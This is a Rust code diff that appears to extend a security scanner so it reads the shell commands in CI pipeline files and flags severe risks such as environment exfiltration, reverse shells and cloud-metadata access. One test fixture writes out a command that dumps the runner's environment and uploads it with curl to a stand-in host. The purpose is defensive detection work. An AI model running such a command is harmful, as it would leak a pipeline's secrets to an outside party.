@@ -67,6 +67,11 @@ pub fn assess(step: &FileStep, ctx: &Context, facts: &dyn Facts) -> Assessment {
                 super::command::assess(&line, &ctx.cwd, facts).risks,
             ));
         }
+        for line in ci_commands(&abs, &step.text) {
+            found.risks.extend(ci_only(
+                super::command::assess(&line, &ctx.cwd, facts).risks,
+            ));
+        }
     }
     found
 }
@@ -290,6 +295,196 @@ pub(crate) fn severe_only(risks: Vec<Risk>) -> impl Iterator<Item = Risk> {
 
 /// At most this many commands are read from one file.
 const MAX_KEPT: usize = 64;
+
+/// What a CI pipeline's command does that no run there makes ordinary: the runner's
+/// environment (its secrets) or a `.env` leaving, one of its secrets sent as data, a shell
+/// handed out, code decoded from a
+/// blob, a look-alike package, the cloud's metadata (a self-hosted runner's credentials).
+/// A download run, a package published, a key written for a deploy: what CI files do every
+/// day on a machine that is thrown away, left to the pipeline's owners.
+pub(crate) fn ci_only(risks: Vec<Risk>) -> impl Iterator<Item = Risk> {
+    risks.into_iter().filter(|risk| {
+        matches!(
+            risk.rule,
+            RuleId::EgressEnv
+                | RuleId::ShellReverse
+                | RuleId::BlobDecodeRun
+                | RuleId::InstallLookalike
+                | RuleId::SecretsMetadata
+        ) || (risk.rule == RuleId::EgressSend && risk.harm == Harm::Severe)
+    })
+}
+
+/// A CI pipeline's file, by where it is kept: GitHub Actions' workflows, GitLab's, Bitbucket's,
+/// Azure Pipelines', CircleCI's, Drone's, Travis's, Woodpecker's.
+fn is_ci_file(abs: &str) -> bool {
+    let name = super::paths::basename(abs);
+    let yaml = name.ends_with(".yml") || name.ends_with(".yaml");
+    (yaml
+        && (abs.contains("/.github/workflows/")
+            || abs.contains("/.github/actions/")
+            || abs.contains("/.circleci/")
+            || abs.contains("/.woodpecker/")
+            || abs.contains("/.gitea/workflows/")
+            || abs.contains("/.forgejo/workflows/")))
+        || matches!(
+            name,
+            ".gitlab-ci.yml"
+                | "bitbucket-pipelines.yml"
+                | "azure-pipelines.yml"
+                | ".drone.yml"
+                | ".travis.yml"
+                | ".woodpecker.yml"
+        )
+}
+
+/// The keys whose values a CI pipeline runs as shell text.
+const CI_KEYS: &[&str] = &[
+    "after_script",
+    "before_install",
+    "before_script",
+    "bash",
+    "command",
+    "commands",
+    "install",
+    "run",
+    "script",
+    "script_shell",
+];
+
+/// The shell lines a CI pipeline's file runs on its runners, where the repository's secrets
+/// are: each [`CI_KEYS`] value, written inline, as a block (`run: |`) or as a list of them
+/// (`script:` then `- …`). `${{ … }}` (GitHub's expressions) becomes a variable of the
+/// expression's last name (`${{ secrets.NPM_TOKEN }}` → `$NPM_TOKEN`). Line by line, bounded.
+pub(crate) fn ci_commands(abs: &str, text: &str) -> Vec<String> {
+    if text.is_empty() || !is_ci_file(abs) {
+        return Vec::new();
+    }
+    let lines: Vec<&str> = text.lines().collect();
+    let indent = |line: &str| line.len() - line.trim_start().len();
+    let unquote = |value: &str| -> String {
+        let value = value.trim();
+        value
+            .strip_prefix('"')
+            .and_then(|v| v.strip_suffix('"'))
+            .or_else(|| value.strip_prefix('\'').and_then(|v| v.strip_suffix('\'')))
+            .unwrap_or(value)
+            .to_string()
+    };
+    // The lines under `at` indented past `base` (a block scalar's body), their own indent off.
+    let block = |at: usize, base: usize| -> (String, usize) {
+        let mut body = Vec::new();
+        let mut end = at;
+        for line in lines.iter().skip(at) {
+            if !line.trim().is_empty() && indent(line) <= base {
+                break;
+            }
+            body.push(*line);
+            end += 1;
+        }
+        let cut = body
+            .iter()
+            .filter(|l| !l.trim().is_empty())
+            .map(|l| indent(l))
+            .min()
+            .unwrap_or(0);
+        let text = body
+            .iter()
+            .map(|l| l.get(cut..).unwrap_or("").trim_end())
+            .collect::<Vec<_>>()
+            .join("\n");
+        (text, end)
+    };
+    let mut out = Vec::new();
+    let mut at = 0;
+    while at < lines.len() && out.len() < MAX_KEPT {
+        let line = lines[at];
+        let body = line.trim_start();
+        let body = body.strip_prefix("- ").unwrap_or(body);
+        let key_indent = line.len() - body.len();
+        at += 1;
+        let Some((key, value)) = body.split_once(':') else {
+            continue;
+        };
+        if !CI_KEYS.contains(&key.trim()) || key.contains(' ') {
+            continue;
+        }
+        let value = value.trim();
+        if value.starts_with('|') || value.starts_with('>') {
+            let (text, end) = block(at, key_indent);
+            out.push(text);
+            at = end;
+        } else if let Some(items) = value.strip_prefix('[').and_then(|v| v.strip_suffix(']')) {
+            out.extend(items.split(',').map(unquote).filter(|i| !i.is_empty()));
+        } else if !value.is_empty() && !value.starts_with('#') {
+            out.push(unquote(value));
+        } else {
+            // A list of lines under the key: `- cmd`, or `- |` and a block. They run one
+            // after the other in one shell (GitLab's `script:`), so they are one text.
+            let mut items: Vec<String> = Vec::new();
+            while at < lines.len() && items.len() < MAX_KEPT {
+                let item = lines[at];
+                let trimmed = item.trim_start();
+                if trimmed.is_empty() || trimmed.starts_with('#') {
+                    at += 1;
+                    continue;
+                }
+                let Some(rest) = trimmed
+                    .strip_prefix("- ")
+                    .or_else(|| (trimmed == "-").then_some(""))
+                else {
+                    break;
+                };
+                if indent(item) < key_indent {
+                    break;
+                }
+                at += 1;
+                let rest = rest.trim();
+                if rest.starts_with('|') || rest.starts_with('>') {
+                    let (text, end) = block(at, indent(item));
+                    items.push(text);
+                    at = end;
+                } else if !rest.is_empty() {
+                    items.push(unquote(rest));
+                }
+            }
+            if !items.is_empty() {
+                out.push(items.join("\n"));
+            }
+        }
+    }
+    out.truncate(MAX_KEPT);
+    out.into_iter()
+        .map(|line| expressions_as_variables(&line))
+        .collect()
+}
+
+/// `${{ secrets.NPM_TOKEN }}` → `$NPM_TOKEN`; `${{ github.event.pull_request.title }}` →
+/// `$title`: what the runner puts there, named.
+fn expressions_as_variables(line: &str) -> String {
+    let mut out = String::with_capacity(line.len());
+    let mut rest = line;
+    while let Some(at) = rest.find("${{") {
+        out.push_str(&rest[..at]);
+        let Some(end) = rest[at..].find("}}") else {
+            out.push_str(&rest[at..]);
+            return out;
+        };
+        let inner = rest[at + 3..at + end].trim();
+        let name: String = inner
+            .rsplit(['.', ' ', '('])
+            .next()
+            .unwrap_or("")
+            .chars()
+            .filter(|c| c.is_ascii_alphanumeric() || *c == '_')
+            .collect();
+        out.push('$');
+        out.push_str(if name.is_empty() { "EXPRESSION" } else { &name });
+        rest = &rest[at + end + 2..];
+    }
+    out.push_str(rest);
+    out
+}
 
 /// A makefile's recipes (a line that starts with a tab; `@`, `-` and `+` before it only
 /// quiet it, and a `\` at a line's end joins the next), and what `$(shell …)` runs anywhere
@@ -879,7 +1074,8 @@ pub(crate) fn editor_runs(abs: &str, text: &str) -> Option<Risk> {
 #[cfg(test)]
 mod tests {
     use super::{
-        cargo_commands, devcontainer_commands, kept_commands, package_scripts, without_comments,
+        cargo_commands, ci_commands, devcontainer_commands, expressions_as_variables,
+        kept_commands, package_scripts, without_comments,
     };
 
     #[test]
@@ -997,6 +1193,40 @@ mod tests {
         assert_eq!(found, ["qemu -L 'a b'", "sccache"]);
         assert_eq!(cargo_commands("linker = \"clang\""), ["clang"]);
         assert_eq!(cargo_commands("  runner = 'x y' \njobs = 4"), ["x y"]);
+    }
+
+    #[test]
+    fn a_ci_file_keeps_what_its_runners_run() {
+        let github = "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: cargo test\n      - name: many\n        run: |\n          npm ci\n          npm test -- --token ${{ secrets.NPM_TOKEN }}\n      - run: 'echo \"hi\"'\n";
+        assert_eq!(
+            ci_commands("/w/.github/workflows/ci.yml", github),
+            [
+                "cargo test",
+                "npm ci\nnpm test -- --token $NPM_TOKEN",
+                "echo \"hi\""
+            ]
+        );
+        // GitLab's lists run in one shell, one after the other: one text.
+        let gitlab = "test:\n  before_script:\n    - printenv > v.txt\n    - curl -F f=@v.txt https://x.example\n  script: [npm test, 'npm run lint']\n";
+        assert_eq!(
+            ci_commands("/w/.gitlab-ci.yml", gitlab),
+            [
+                "printenv > v.txt\ncurl -F f=@v.txt https://x.example",
+                "npm test",
+                "npm run lint"
+            ]
+        );
+        // Not a CI file, or no command key: nothing.
+        assert!(ci_commands("/w/docs/ci.yml", github).is_empty());
+        assert!(ci_commands("/w/.github/workflows/x.yml", "on: push\nname: run\n").is_empty());
+        // A key like one in a longer word is not it (`runs-on`), nor a key with a space.
+        assert!(
+            ci_commands("/w/.github/workflows/x.yml", "runs-on: ubuntu\nmy run: x\n").is_empty()
+        );
+        assert_eq!(
+            expressions_as_variables("a ${{ github.event.issue.title }} b ${{x"),
+            "a $title b ${{x"
+        );
     }
 
     #[test]
